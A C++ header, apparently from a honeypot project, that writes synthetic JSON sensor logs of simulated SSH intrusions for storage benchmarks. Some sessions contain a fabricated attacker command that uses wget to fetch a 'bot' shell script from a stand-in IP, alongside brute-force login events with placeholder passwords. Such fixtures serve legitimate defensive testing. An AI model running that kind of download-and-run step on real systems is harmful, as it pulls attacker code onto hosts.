// A synthetic sensor event log for the store benchmarks, shaped like real
// traffic: per intrusion a few connections (sessions); per session the
// connection, the guest's accept and forks, failed then accepted logins, a
// terminal, commands (every fifth session downloads), connections out,
// and the disconnect. About 100 events per session.
#pragma once

#include <cstddef>
#include <cstdint>
#include <ostream>
#include <string>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

namespace oyster::bench {

// Writes `events` lines to `out`; returns the number of sessions.
inline std::size_t write_event_log(std::ostream& out, std::size_t events) {
    std::size_t n = 0, session = 0;
    auto ts = [](std::size_t i) {
        return fmt::format("2026-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z", 1 + i / 2592000000 % 12, 1 + i / 86400000 % 28,
                           i / 3600000 % 24, i / 60000 % 60, i / 1000 % 60, i % 1000);
    };
    auto emit = [&](nlohmann::json j) {
        if (n >= events) return;
        j["ts"] = ts(n * 10);
        out << j.dump() << '\n';
        ++n;
    };
    for (std::size_t intrusion = 0; n < events; ++intrusion) {
        std::string id = fmt::format("20261127T{:06}-{:06x}", intrusion % 1000000, intrusion);
        std::string guest = fmt::format("{:06x}", intrusion);
        std::string ip = fmt::format("198.51.{}.{}", intrusion / 250 % 256, intrusion % 250 + 1);
        auto capture = [&](nlohmann::json e, int pid) {
            e["pid"] = pid;
            e["tgid"] = pid;
            e["uid"] = 0;
            e["comm"] = "bash";
            e["time"] = ts(n * 10);
            emit({{"type", "capture"}, {"guest_id", guest}, {"intrusion_id", id}, {"source_ip", ip}, {"event", e}});
        };
        emit({{"type", "intrusion_opened"},
              {"intrusion_id", id},
              {"source_ip", ip},
              {"guest_id", guest},
              {"guest_ip", "10.213.0.2"},
              {"dir", "/var/lib/oyster/guests/" + guest}});
        for (int s = 0; s < 3 && n < events; ++s, ++session) {
            int port = 30000 + static_cast<int>(session % 30000);
            int base = 1000 + s * 100;
            emit({{"type", "connection"},
                  {"source_ip", ip},
                  {"source_port", port},
                  {"port", 22},
                  {"guest_id", guest},
                  {"intrusion_id", id},
                  {"waits_for_boot", false}});
            capture({{"type", "accept"},
                     {"result", 4},
                     {"ok", true},
                     {"remote", {{"family", "inet"}, {"address", ip}, {"port", port}}}},
                    90);
            capture({{"type", "fork"}, {"child_pid", base}, {"child_tgid", base}, {"thread", false}}, 90);
            capture(
                {{"type", "exec"}, {"path", "/usr/sbin/sshd"}, {"cwd", "/"}, {"argv", {"/usr/sbin/sshd", "-D", "-R"}}},
                base);
            for (int i = 0; i < 4; ++i) {
                emit({{"type", "login"},
                      {"guest_id", guest},
                      {"intrusion_id", id},
                      {"source_ip", ip},
                      {"service", "sshd"},
                      {"user", i < 3 ? "admin" : "root"},
                      {"password", fmt::format("pass{}", i)},
                      {"remote_ip", ip},
                      {"remote_port", port},
                      {"success", i == 3},
                      {"reason", i == 3 ? "root after failures" : "no rule"},
                      {"pid", base},
                      {"tgid", base}});
            }
            capture({{"type", "tty_open"}, {"session_tty", "pts/0"}, {"seq", 1000 + s}}, base);
            capture({{"type", "fork"}, {"child_pid", base + 1}, {"child_tgid", base + 1}, {"thread", false}}, base);
            bool downloads = session % 5 == 0;
            for (int c = 0; c < 22; ++c) {
                int pid = base + 2 + c;
                capture({{"type", "fork"}, {"child_pid", pid}, {"child_tgid", pid}, {"thread", false}}, base + 1);
                if (downloads && c == 0) {
                    capture({{"type", "exec"},
                             {"path", "/usr/bin/wget"},
                             {"cwd", "/tmp"},
                             {"argv", {"wget", "-q", fmt::format("http://203.0.113.9/bot{}.sh", session)}}},
                            pid);
                    capture({{"type", "connect"},
                             {"result", 0},
                             {"ok", true},
                             {"remote", {{"family", "inet"}, {"address", "203.0.113.9"}, {"port", 80}}}},
                            pid);
                } else {
                    capture({{"type", "exec"}, {"path", "/usr/bin/uname"}, {"cwd", "/root"}, {"argv", {"uname", "-a"}}},
                            pid);
                    capture({{"type", "file"}, {"op", "open_write"}, {"ok", true}, {"path", "/root/.bash_history"}},
                            pid);
                }
                capture({{"type", "connect"},
                         {"result", -2},
                         {"ok", false},
                         {"remote", {{"family", "unix"}, {"path", "/var/run/nscd/socket"}}}},
                        pid);
            }
            capture({{"type", "tty_close"}, {"session_tty", "pts/0"}, {"seq", 2000 + s}}, base);
            emit({{"type", "connection_closed"},
                  {"source_ip", ip},
                  {"source_port", port},
                  {"guest_id", guest},
                  {"bytes_from_client", 3520},
                  {"bytes_to_client", 4821},
                  {"duration_ms", 61000},
                  {"reached_guest", true},
                  {"end", "closed"}});
        }
        emit({{"type", "intrusion_closed"},
              {"intrusion_id", id},
              {"source_ip", ip},
              {"guest_id", guest},
              {"reason", "idle"},
              {"connections", 3},
              {"pcap_files", 1},
              {"disk_bytes", 1 << 20},
              {"dir", "/var/lib/oyster/guests/" + guest}});
    }
    return session;
}

}  // namespace oyster::bench
